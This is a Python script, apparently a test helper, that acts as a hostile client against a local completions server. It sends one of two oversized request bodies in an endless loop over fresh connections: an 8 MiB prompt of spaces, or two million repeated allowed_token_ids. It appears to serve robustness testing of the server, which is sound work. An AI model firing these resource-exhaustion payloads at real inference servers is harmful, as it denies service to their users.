"""A client of bad will, in a process of its own so that it shares no interpreter with the honest ones: sends one request
again and again, each over a connection of its own, until it is killed. `attack.py PORT KIND`; a kind is a name of KINDS."""
import socket
import sys

HEAD = b"POST /v1/completions HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n"
MEBIBYTE = 1 << 20


def sized(body):
    return HEAD + b"Content-Length: %d\r\n\r\n" % len(body) + body


KINDS = {
    # As many spaces as a body may hold, of which the tokenizer makes hardly a token.
    "spaces": lambda: sized(b'{"prompt": "' + b" " * (8 * MEBIBYTE - 64) + b'"}'),
    # Two million ids that repeat one.
    "ids": lambda: sized(b'{"prompt": "hello", "allowed_token_ids": [' + b"7," * 2_000_000 + b"8]}"),
}


def attack(port, kind):
    while kind == "busy":  # asks for nothing: what any two neighbours on the machine cost
        pass
    request = KINDS[kind]()
    while True:
        try:
            with socket.create_connection(("127.0.0.1", port), timeout=60) as connection:
                connection.sendall(request)
                connection.recv(1 << 16)
        except OSError:
            pass  # told off, or cut off


if __name__ == "__main__":
    attack(int(sys.argv[1]), sys.argv[2])
